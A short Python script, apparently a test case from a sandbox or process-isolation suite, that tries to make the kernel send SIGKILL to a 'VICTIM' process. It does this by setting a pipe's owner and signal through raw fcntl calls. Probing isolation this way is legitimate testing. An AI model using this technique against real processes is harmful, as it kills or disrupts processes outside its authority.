"""Has the kernel signal another process about a pipe."""

import fcntl
import os
import struct

from tools import VICTIM, each


def attack():
    ours, _ = os.pipe()
    return each(
        lambda: fcntl.fcntl(ours, 8, VICTIM),
        lambda: fcntl.fcntl(ours, 10, 9),
        lambda: fcntl.fcntl(ours, 15, struct.pack("ii", 1, VICTIM)),
    )
